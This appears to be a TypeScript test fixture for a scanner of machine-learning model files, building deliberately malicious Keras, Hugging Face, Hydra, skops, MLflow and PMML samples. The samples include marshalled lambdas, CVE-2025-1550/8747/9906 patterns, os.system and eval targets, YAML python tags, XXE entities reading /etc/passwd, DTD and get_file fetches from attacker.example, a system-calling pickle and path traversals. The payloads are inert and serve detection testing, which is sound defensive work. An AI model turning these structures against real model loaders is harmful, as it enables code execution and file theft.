import { family, json, type MaliciousFile } from "./malicious-file.ts";
import { writeZip } from "../../../../formats/zip/testing/write-zip.ts";

const marshalled = `4wEAAAAA${"A".repeat(60)}`;
const object = (module: string | null, name: string, config: unknown = {}) => ({
  module,
  class_name: name,
  config,
  registered_name: null,
});
const lambda = object("keras.layers", "Lambda", {
  function: { class_name: "__lambda__", config: { code: marshalled } },
});
const keras = (...layers: readonly unknown[]) => ({
  ...object("keras", "Sequential", { name: "m", layers }),
  registered_name: "Sequential",
});
const archive = (config: unknown, ...more: { name: string; data: string | Uint8Array }[]): Uint8Array =>
  writeZip([
    { name: "metadata.json", data: json({ keras_version: "3.15.1", date_saved: "2026-01-01@00:00:00" }) },
    { name: "config.json", data: json(config) },
    ...more,
  ]);

const configs: Readonly<Record<string, unknown>> = {
  "lambda of version 3": keras(lambda),
  "lambda with a value": keras(
    object("keras.layers", "Lambda", {
      function: { class_name: "__lambda__", config: { value: [marshalled, null, null] } },
    }),
  ),
  "lambda of version 2": keras({
    class_name: "Lambda",
    config: { function: [marshalled, null, null], function_type: "lambda", module: "builtins" },
  }),
  "lambda in a wrapper": keras(object("keras.layers", "TimeDistributed", { layer: lambda })),
  "lambda deep down": keras(
    object("keras.layers", "Dense", {
      kernel_initializer: object("keras.initializers", "X", { a: [[[lambda]]] }),
    }),
  ),
  "lambda as a loss": {
    ...keras(),
    compile_config: { loss: { class_name: "__lambda__", config: { code: marshalled } } },
  },
  "CVE-2025-1550: a function elsewhere": keras(
    object("keras.layers", "Dense", {
      kernel_initializer: {
        module: "subprocess",
        class_name: "function",
        config: "run",
        registered_name: "function",
      },
    }),
  ),
  "a class elsewhere": keras(object("subprocess", "Popen", { args: ["echo", "inert"] })),
  "CVE-2025-8747: get_file": keras(
    object("keras.layers", "Lambda", {
      function: {
        module: "keras.utils",
        class_name: "function",
        config: "get_file",
        registered_name: "function",
      },
      arguments: { origin: "http://attacker.example/x", fname: "x" },
    }),
  ),
  "CVE-2025-9906: switches safe mode off": keras(
    object("keras.layers", "Lambda", {
      function: { module: "keras.config", class_name: "function", config: "enable_unsafe_deserialization" },
    }),
  ),
  "an importer": keras({
    module: "importlib",
    class_name: "function",
    config: "import_module",
    registered_name: "function",
  }),
  "a version that claims to be mended": { ...keras(lambda), keras_version: "99.0.0" },
};

const skops = (module: string, name: string, loader: string, more: object = {}): Uint8Array =>
  writeZip([
    {
      name: "schema.json",
      data: json({
        __class__: "Pipeline",
        __module__: "sklearn.pipeline",
        __loader__: "ObjectNode",
        content: { __class__: name, __module__: module, __loader__: loader, content: {}, ...more },
        protocol: 2,
        _skops_version: "0.16.0",
      }),
    },
  ]);

const pmml = (intro: string, inside = ""): string =>
  `<?xml version="1.0"?>\n${intro}<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header/>${inside}</PMML>\n`;
const mlmodel = (line: string): string =>
  `flavors:\n  python_function:\n    ${line}\n    python_version: 3.11.7\nmlflow_version: 3.1.0\n`;
const code = Buffer.from("import os\nos.system('echo inert')\n");

/** Configurations that make a loader import, call or fetch. */
export const configFiles: readonly MaliciousFile[] = [
  ...family("Keras configuration", "config.json", mapped(json)),
  ...family("Keras archive", "model.keras", mapped(archive)),
  ...family("Keras archive, parts", "model.keras", {
    "a pickle in it": archive(keras(), { name: "assets/x", data: "cos\nsystem\n(S'echo inert'\ntR." }),
    "an asset outside": archive(keras(), { name: "assets/../../x", data: "a" }),
    "a vocabulary outside": archive(
      keras(object("keras.layers", "StringLookup", { vocabulary: "/etc/passwd" })),
    ),
  }),
  ...(
    [
      ["config.json", { model_type: "x", auto_map: { AutoModel: "modeling_x.Model" } }],
      ["config.json", { model_type: "x", auto_map: { AutoModel: "attacker/repo--modeling_x.Model" } }],
      ["config.json", { model_type: "x", a: { auto_map: { AutoConfig: "configuration_x.Config" } } }],
      [
        "tokenizer_config.json",
        { tokenizer_class: "X", auto_map: { AutoTokenizer: ["tokenization_x.T", null] } },
      ],
      ["processor_config.json", { processor_class: "X", auto_map: { AutoProcessor: "processing_x.P" } }],
      ["preprocessor_config.json", { image_processor_type: "X", auto_map: { AutoImageProcessor: "p.P" } }],
      ["config.json", { model_type: "x", _target_: "os.system", command: "echo inert" }],
      ["config.json", { model_type: "x", trainer: { _target_: "builtins.exec", _args_: ["1"] } }],
      ["config.json", { trainer: { logger: [{ _target_: "subprocess.run", args: "echo inert" }] } }],
      ["model.safetensors.index.json", { metadata: {}, weight_map: { a: "../../outside.safetensors" } }],
      ["model.safetensors.index.json", { metadata: {}, weight_map: { a: "/etc/passwd" } }],
    ] satisfies readonly (readonly [string, object])[]
  ).map(([file, content], i) => ({
    family: "repository configuration",
    name: `${file} ${i + 1}`,
    file: file,
    bytes: json(content),
    beside: {
      "modeling_x.py": code,
      "configuration_x.py": code,
      "tokenization_x.py": code,
      "processing_x.py": code,
    },
  })),
  ...family("Hydra", "config.yaml", {
    "a target": "trainer:\n  _target_: os.system\n  command: echo inert\n",
    "a target in a list": "callbacks:\n  - _target_: builtins.eval\n    _args_: ['1']\n",
    "a tag of Python": "a: !!python/object/apply:os.system ['echo inert']\n",
    "another tag of Python": "a: !!python/name:os.system\n",
    "a module": "a: !!python/module:os\n",
  }),
  ...family("skops", "model.skops", {
    "os.system": skops("os", "system", "FunctionNode"),
    eval: skops("builtins", "eval", "TypeNode"),
    "an operator that is none": skops("sklearn.tree", "Tree", "OperatorFuncNode"),
    "a method walked to": skops("sklearn.base", "X", "MethodNode", { content: { func: "fit.__globals__" } }),
    "a file outside": skops("numpy", "ndarray", "NdArrayNode", { file: "../x.npy", type: "numpy" }),
    "a partial": skops("functools", "partial", "PartialNode", {
      content: { func: { __class__: "system", __module__: "os", __loader__: "FunctionNode", content: {} } },
    }),
  }),
  ...family("MLflow", "MLmodel", {
    "a loader of its own": mlmodel("loader_module: evil_loader"),
    "os as the loader": mlmodel("loader_module: os"),
    "code beside it": mlmodel("loader_module: mlflow.sklearn\n    code: code"),
    "a path that leaves": mlmodel("loader_module: mlflow.sklearn\n    data: ../../../etc"),
  }),
  ...family("PMML", "model.pmml", {
    "an external entity": pmml('<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
    "entities that grow": pmml('<!DOCTYPE PMML [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>'),
    "a definition elsewhere": pmml('<!DOCTYPE PMML SYSTEM "http://attacker.example/x.dtd">'),
    "a parameter entity": pmml('<!DOCTYPE PMML [<!ENTITY % x SYSTEM "http://attacker.example/x"> %x;]>'),
    "an inclusion": pmml(
      "",
      '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>',
    ),
  }),
];

function mapped(make: (config: unknown) => Uint8Array): Record<string, Uint8Array> {
  return Object.fromEntries(Object.entries(configs).map(([name, config]) => [name, make(config)]));
}
